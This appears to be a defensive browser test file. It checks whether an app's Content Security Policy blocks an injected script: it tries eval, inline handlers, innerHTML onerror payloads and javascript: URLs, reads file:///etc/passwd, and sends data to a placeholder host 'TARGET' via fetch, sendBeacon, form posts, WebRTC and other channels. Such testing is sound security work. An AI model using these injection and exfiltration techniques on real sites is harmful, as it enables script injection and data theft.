// What somebody would try whose script had got into the page: this file is served by the app itself, so the policy
// holds for it as for ours (it does not for what a debugger calls). TARGET is a server that must never be visited.
/* oxlint-disable no-eval, no-new-func, no-script-url, no-implied-eval, typescript/no-implied-eval */
/* oxlint-disable unicorn/prefer-add-event-listener, no-document-cookie */
const target = 'TARGET'
const attack = 'window.broken = true'

/** Whether an attack got through. What never answers did not, and what throws did not. */
async function tries(work) {
  try {
    const late = new Promise((resolve) => setTimeout(() => resolve(false), 700))
    return (await Promise.race([work(), late])) === false ? 'refused' : 'got through'
  } catch {
    return 'refused'
  }
}

function made(tag, attributes, text = '') {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
  if (text) element.textContent = text
  return element
}

/** Puts an element into the page, and waits until it has loaded. */
const loads = (element) =>
  new Promise((resolve, reject) => {
    for (const name of ['load', 'loadeddata']) element.addEventListener(name, () => resolve(true))
    element.addEventListener('error', () => reject(new Error('not loaded')))
    document.body.append(element)
  })

/** Does something, and tells whether `attack` has run within a moment. */
async function runs(work) {
  window.broken = false
  await work()
  for (let i = 0; i < 15 && !window.broken; i++) await new Promise((resolve) => setTimeout(resolve, 10))
  return window.broken
}

const opened = (source) =>
  new Promise((resolve, reject) => {
    source.onopen = () => resolve(true)
    source.onerror = () => reject(new Error('closed'))
  })

const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }))
const canvas = () => made('p', {}, 'x')

/** Text that becomes a script, and style; one after the other, since they share a flag. */
const inside = {
  eval: () => runs(() => (0, eval)(attack)),
  'new Function': () => runs(() => new Function(attack)()),
  'timer with text': () => runs(() => setTimeout(attack)),
  'inline handler': () =>
    runs(() => {
      const button = made('button', { onclick: attack })
      document.body.append(button)
      button.click()
    }),
  'inline script': () => runs(() => document.body.append(made('script', {}, attack))),
  'script from data': () => runs(() => import(/* @vite-ignore */ `data:text/javascript,${attack}`)),
  'script from a blob': () => runs(() => import(/* @vite-ignore */ blob(attack, 'text/javascript'))),
  'script from elsewhere': () => loads(made('script', { src: `http://${target}/a.js` })),
  'module from elsewhere': () => import(/* @vite-ignore */ `http://${target}/a.js`),
  innerHTML: () => runs(() => (canvas().innerHTML = `<img src=x onerror="${attack}">`)),
  insertAdjacentHTML: () =>
    runs(() => canvas().insertAdjacentHTML('beforeend', `<img src=x onerror="${attack}">`)),
  'parsed markup': () =>
    runs(() => {
      const parsed = new DOMParser().parseFromString(`<button onclick="${attack}">x</button>`, 'text/html')
      const button = document.importNode(parsed.querySelector('button'), true)
      document.body.append(button)
      button.click()
    }),
  'a policy of one’s own': () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }),
  'link to a script': () =>
    runs(() => {
      const link = made('a', { href: `javascript:${attack}` })
      document.body.append(link)
      link.click()
    }),
  'location to a script': () => runs(() => (location.href = `javascript:${attack}`)),
  'compiled code': () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  'inline style': () => {
    document.body.append(made('style', {}, ':root { --broken: yes }'))
    return getComputedStyle(document.documentElement).getPropertyValue('--broken') !== ''
  },
  'style attribute': () => {
    const element = made('p', { style: '--broken: yes' })
    document.body.append(element)
    return getComputedStyle(element).getPropertyValue('--broken') !== ''
  },
  base: () => {
    const base = made('base', { href: `http://${target}/` })
    document.head.append(base)
    const moved = document.baseURI.includes(target)
    base.remove()
    return moved
  },
  'frame with a script': () =>
    runs(async () => {
      const frame = made('iframe', {})
      frame.srcdoc = `<script>parent.${attack}</script>`
      await loads(frame)
    }),
  globals: () =>
    ['require', 'process', 'module', 'global', 'Buffer', '__dirname', 'ipcRenderer', 'electron'].some(
      (name) => name in window,
    ),
}

/** Ways out of the page, or into another; all at once. */
const out = {
  worker: () => opened(new Worker(blob(`postMessage(1)`, 'text/javascript'))),
  'worker of the app': () => {
    const worker = new Worker('/assets/attack.js')
    return new Promise((resolve, reject) => {
      worker.onmessage = () => resolve(true)
      worker.onerror = () => reject(new Error('no worker'))
    })
  },
  'shared worker': () => new Promise((_, reject) => (new SharedWorker('/assets/attack.js').onerror = reject)),
  'service worker': () => navigator.serviceWorker.register('/assets/attack.js'),
  fetch: () => fetch(`http://${target}/`, { mode: 'no-cors' }),
  'fetch of the app': () => fetch('/index.html'),
  'fetch of a file': () => fetch('file:///etc/passwd', { mode: 'no-cors' }),
  request: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve(true)
      request.onerror = reject
      request.open('GET', `http://${target}/`)
      request.send()
    }),
  socket: () => opened(new WebSocket(`ws://${target}/`)),
  'event source': () => opened(new EventSource(`http://${target}/`)),
  image: () => loads(made('img', { src: `http://${target}/a.png` })),
  font: () => new FontFace('far', `url(http://${target}/a.woff2)`).load(),
  'style sheet': () => loads(made('link', { rel: 'stylesheet', href: `http://${target}/a.css` })),
  video: () => loads(made('video', { src: `http://${target}/a.mp4` })),
  object: () => loads(made('object', { data: `http://${target}/a.svg`, type: 'image/svg+xml' })),
  embed: () => loads(made('embed', { src: `http://${target}/a.svg`, type: 'image/svg+xml' })),
  preload: () => loads(made('link', { rel: 'preload', as: 'image', href: `http://${target}/b.png` })),
  frame: () => shows(made('iframe', { src: `http://${target}/` })),
  'frame of the app': () => shows(made('iframe', { src: '/index.html' })),
  'frame from a blob': () => shows(made('iframe', { src: blob('<p>in</p>', 'text/html') })),
}

/** Whether a frame comes to show something that can be read from here; who was asked for it the server knows. */
async function shows(frame) {
  await loads(frame)
  return frame.contentDocument !== null && frame.contentDocument.body.childElementCount > 0
}

/** Tried without asking what became of it: whether they get out only the server can tell. */
function slipOut() {
  const quietly = (work) => {
    try {
      work()
    } catch {
      return
    }
  }
  quietly(() => navigator.sendBeacon(`http://${target}/beacon`, 'x'))
  for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'manifest', 'icon'])
    document.head.append(made('link', { rel, href: `http://${target}/${rel}` }))
  quietly(() => {
    const form = made('form', { action: `http://${target}/form`, method: 'post' })
    document.body.append(form)
    form.submit()
  })
  quietly(() => {
    const link = made('a', { href: '#here', ping: `http://${target}/ping` })
    document.body.append(link)
    link.click()
  })
  quietly(() => {
    const servers = [`turn:${target}?transport=tcp`, `turn:${target}?transport=udp`]
    const peer = new RTCPeerConnection({ iceServers: [{ urls: servers, username: 'x', credential: 'x' }] })
    peer.createDataChannel('out')
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  })
  quietly(() => {
    const element = made('p', {}, 'x')
    element.style.backgroundImage = `url(http://${target}/background.png)`
    document.body.append(element)
  })
}

async function attackAll() {
  const outcomes = {}
  const attempt = async ([name, work]) => (outcomes[name] = await tries(async () => work()))
  for (const each of Object.entries(inside)) await attempt(each)
  slipOut()
  await Promise.all(Object.entries(out).map(attempt))
  await new Promise((resolve) => setTimeout(resolve, 500))
  // The last, since it takes the page away where it gets through.
  outcomes['document.write'] = await tries(() => runs(() => document.write(`<script>${attack}</script>`)))
  return outcomes
}

if (globalThis.document) globalThis.outcomes = attackAll()
else globalThis.postMessage?.('in')
